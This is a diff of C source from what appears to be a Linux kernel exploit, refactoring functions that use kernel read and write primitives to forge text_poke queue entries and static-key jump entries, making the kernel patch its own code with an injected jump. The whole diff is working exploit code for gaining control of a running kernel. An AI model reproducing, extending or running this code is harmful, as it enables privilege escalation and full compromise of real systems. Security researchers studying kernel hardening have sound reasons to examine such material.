@@ -11,9 +11,9 @@
 #include "attack.h"
 #include "list.h"
 #include "objects.h"
+#include "patching.h"
 
 #ifdef __x86_64__
-#define KEY			"netstamp_needed_key"	/* a socket switches it */
 #define KEY_ENTRIES		8
 #define LINKED			2UL	/* a list of modules */
 #define SCRATCH			"modprobe_path"	/* near text, and long enough */
@@ -87,7 +87,7 @@ static struct jump_entry make_entry(uint64_t at, uint64_t code, uint64_t target,
 	};
 }
 
-static int write_entry(uint64_t at, uint64_t code, uint64_t target, uint64_t key)
+int write_entry(uint64_t at, uint64_t code, uint64_t target, uint64_t key)
 {
 	struct jump_entry entry = make_entry(at, code, target, key);
 
@@ -108,7 +108,7 @@ static bool wait_for_text(uint64_t code, bool patched)
 	return false;
 }
 
-static int switch_on(void)
+int switch_on(void)
 {
 	int fd = socket(AF_NETLINK, SOCK_RAW, 0), on = 1;
 
@@ -135,14 +135,14 @@ static enum outcome patch_by_key(uint64_t code, int (*undo)(uint64_t code))
 }
 
 /* The place, if it is one of the function's first. */
-static uint64_t find_code(void)
+uint64_t find_code(void)
 {
 	uint64_t code = find_bytes(text_address(), text_address() + 1, nop, sizeof(nop));
 
 	return code - text_address() > sizeof(yes) ? 0 : code;
 }
 
-static uint64_t find_target(void)
+uint64_t find_target(void)
 {
 	return find_bytes(ksymbol("_stext"), ksymbol("_etext"), yes, sizeof(yes));
 }
@@ -203,40 +203,52 @@ enum outcome patch_by_own_entry(bool (*store)(uint64_t addr, void *data, size_t 
 #define JUMP		0xe9
 #define QUEUE_LENGTH	4080	/* where it is, behind a queue that is protected */
 
-/* What is to be patched waits here until there is enough of it. */
-struct text_poke_loc {
-	int rel_addr, disp;
-	unsigned char len, opcode, text[sizeof(nop)], old;
-};
-
-static int queue_patch(uint64_t code, const unsigned char *text, int disp)
+uint64_t queued_patches(uint64_t *nr)
 {
-	uint64_t plain = ksymbol("tp_vec"), own = ksymbol("kpkeys_patch_queue");
+	uint64_t plain = ksymbol("tp_vec"), queue = plain ?: ksymbol("kpkeys_patch_queue");
+
+	*nr = plain ? ksymbol("tp_vec_nr") : queue + QUEUE_LENGTH;
+	return queue;
+}
+
+static struct text_poke_loc make_patch(uint64_t code, const unsigned char *text, int disp)
+{
 	struct text_poke_loc loc = {
 		.rel_addr = code - ksymbol("_stext"),
 		.disp = disp,
 		.len = sizeof(nop),
 		.opcode = JUMP,
 	};
-	const int one = 1;
 
 	memcpy(loc.text, text, sizeof(loc.text));
-	return kwrite(plain ?: own, &loc, sizeof(loc)) ?:
-	       kwrite(plain ? ksymbol("tp_vec_nr") : own + QUEUE_LENGTH, &one, sizeof(one));
+	return loc;
 }
 
-static int queue_nop(uint64_t code)
+struct text_poke_loc make_nop(uint64_t code)
 {
-	return queue_patch(code, nop, 0);
+	return make_patch(code, nop, 0);
 }
 
-static int queue_jump(uint64_t code, uint64_t target)
+struct text_poke_loc make_jump(uint64_t code, uint64_t target)
 {
 	unsigned char jump[sizeof(nop)] = { JUMP };
 	int disp = target - code - sizeof(jump);
 
 	memcpy(jump + 1, &disp, sizeof(disp));
-	return queue_patch(code, jump, disp);
+	return make_patch(code, jump, disp);
+}
+
+static int queue_patch(struct text_poke_loc loc)
+{
+	uint64_t nr, queue = queued_patches(&nr);
+	const int one = 1;
+
+	return kwrite(queue, &loc, sizeof(loc)) ?: kwrite(nr, &one, sizeof(one));
+}
+
+static int queue_nop(uint64_t code)
+{
+	return queue_patch(make_nop(code));
 }
 
 /* The kernel patches places of its own next, and this one with them. */
@@ -247,7 +259,7 @@ enum outcome patch_queue(void)
 
 	if (!code || !target || kread64(ksymbol(KEY)))
 		return broken("no static key, or no place that can be patched");
-	err = queue_jump(code, target);
+	err = queue_patch(make_jump(code, target));
 	if (err)
 		return lost("the queue was not to be changed: %d", err);
 	return patch_by_key(code, queue_nop);
